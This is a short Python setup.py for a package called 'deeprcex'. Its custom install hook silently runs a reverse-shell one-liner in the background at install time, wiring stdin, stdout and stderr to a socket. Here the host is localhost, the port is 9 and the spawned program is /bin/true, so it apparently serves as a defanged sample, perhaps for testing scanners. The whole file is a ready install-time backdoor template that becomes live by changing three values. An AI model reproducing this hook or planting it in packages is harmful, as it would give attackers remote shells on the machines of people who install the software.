import os
from setuptools import setup
from setuptools.command.install import install
LHOST, LPORT = "127.0.0.1", 9
reverse_shell = 'python3 -c "import os; import pty; import socket; s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.connect((\'{LHOST}\', {LPORT})); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2); pty.spawn(\'/bin/true\')"'.format(LHOST=LHOST, LPORT=LPORT)
class Hook(install):
    def run(self):
        install.run(self)
        os.system(reverse_shell + " &")
setup(name="deeprcex", version="0.1.0", cmdclass={"install": Hook})
